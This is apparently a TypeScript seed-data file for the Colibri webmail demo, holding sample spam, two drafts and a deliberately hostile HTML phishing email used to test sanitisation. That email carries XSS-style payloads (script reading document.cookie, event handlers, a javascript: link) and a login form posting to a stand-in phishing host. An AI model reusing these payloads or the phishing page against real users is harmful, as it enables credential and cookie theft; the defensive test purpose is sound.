import type { DemoContext, DemoMessage } from '../demo-message.js';
import type { ContactKey } from '../people.js';

/**
 * A hostile HTML message: a script, an inline event handler, a tracking pixel, a javascript:
 * link, a form and a frame. It exists to show (and to test, in e2e) that the web app sanitises
 * HTML mail and shows it in a sandboxed frame without loading anything remote.
 */
const HOSTILE_HTML = `<!doctype html>
<html><head><meta charset="utf-8"><title>Verify your mailbox</title>
<script>document.title = 'pwned'; alert('Script ran: ' + document.cookie);</script>
<style>body { font-family: Arial, sans-serif; color: #111827 } .btn { background: #dc2626; color: #fff; padding: 8px 14px; border-radius: 4px; text-decoration: none }</style>
</head>
<body onload="alert('onload ran')">
<h1>Action required: verify your mailbox</h1>
<p>Dear user,</p>
<p>Your mailbox has reached <b>98%</b> of its quota. To keep receiving messages, verify your account within 24 hours.</p>
<img src="https://tracker.mailbox-verify.example.net/open.gif?u=alice" width="1" height="1" alt="">
<img src="https://mailbox-verify.example.net/logo.png" alt="Mailbox Support logo">
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onerror="alert('onerror ran')" alt="broken image">
<p><a class="btn" href="javascript:alert(document.cookie)">Verify my account</a></p>
<form action="https://mailbox-verify.example.net/collect" method="post">
<input type="email" name="email" placeholder="Email"> <input type="password" name="password" placeholder="Password">
<button type="submit">Log in</button>
</form>
<iframe src="https://mailbox-verify.example.net/frame" width="300" height="80"></iframe>
<p style="color:#6b7280;font-size:12px">This message is part of the Colibri demo. It shows that scripts, event handlers,
remote images, forms, frames and javascript: links in HTML mail are neutralised.</p>
</body></html>
`;

export function hostileHtmlSample(ctx: DemoContext): DemoMessage[] {
  const key = 'hostile-html';
  return [
    {
      key,
      messageId: ctx.messageId(key, 'phisher'),
      from: 'phisher',
      to: ['alice'],
      subject: 'Action required: verify your mailbox (HTML safety demo)',
      date: ctx.at(1, 7),
      text: 'Your mailbox has reached 98% of its quota. Verify your account within 24 hours.\n\n(This is the Colibri demo of hostile HTML mail.)\n',
      html: HOSTILE_HTML,
      unread: true,
    },
  ];
}

const SPAM: { from: ContactKey; subject: string; text: string }[] = [
  {
    from: 'lottery',
    subject: 'Congratulations!!! You have WON 1,000,000 EUR',
    text: 'Dear lucky winner, send us your bank details to claim your prize today.',
  },
  {
    from: 'pharmacy',
    subject: 'Limited offer: watches at -90%',
    text: 'Luxury watches at unbelievable prices. Offer ends tonight!',
  },
  {
    from: 'parcel',
    subject: 'Your parcel could not be delivered',
    text: 'We tried to deliver your parcel. Pay the 1.99 EUR customs fee to reschedule.',
  },
  {
    from: 'lottery',
    subject: 'Final notice: unclaimed prize',
    text: 'This is your final notice. Reply within 48 hours.',
  },
  { from: 'pharmacy', subject: 'Re: your order', text: 'Best prices on everything. Click now.' },
  {
    from: 'parcel',
    subject: 'Delivery attempt failed (ref 88231)',
    text: 'Confirm your address to receive your package.',
  },
  {
    from: 'pharmacy',
    subject: 'You were selected for a free gift',
    text: 'Answer three questions and get a free gift.',
  },
  {
    from: 'lottery',
    subject: 'Transfer pending in your name',
    text: 'A transfer of 4.5 million is waiting for your approval.',
  },
];

/** Spam, already filed in Junk with the $junk keyword. */
export function junkSamples(ctx: DemoContext): DemoMessage[] {
  return SPAM.map((spam, i) => {
    const key = `spam-${i + 1}`;
    return {
      key,
      messageId: ctx.messageId(key, spam.from),
      from: spam.from,
      to: ['alice'],
      subject: spam.subject,
      date: ctx.at(2 + i * 9),
      text: `${spam.text}\n`,
      folder: { alice: 'junk' },
      keywords: { alice: ['$junk'] },
    };
  });
}

/** Alice's unsent drafts. */
export function draftSamples(ctx: DemoContext): DemoMessage[] {
  return [
    {
      key: 'draft-northwind-agenda',
      messageId: ctx.messageId('draft-northwind-agenda', 'alice'),
      from: 'alice',
      to: ['dora'],
      subject: 'Agenda for the quarterly review',
      date: ctx.at(0),
      text: 'Hello Dora,\n\nhere is what I would like to cover on Tuesday:\n\n1. incidents since the last review\n2. search performance\n3. \n',
      draft: true,
    },
    {
      key: 'draft-blog',
      messageId: ctx.messageId('draft-blog', 'alice'),
      from: 'alice',
      to: [],
      subject: 'Blog post: what we learned building Colibri',
      date: ctx.at(3),
      text: 'Ideas:\n- small files\n- one change log for sync, push and recovery\n- test against the real store\n',
      draft: true,
    },
  ];
}
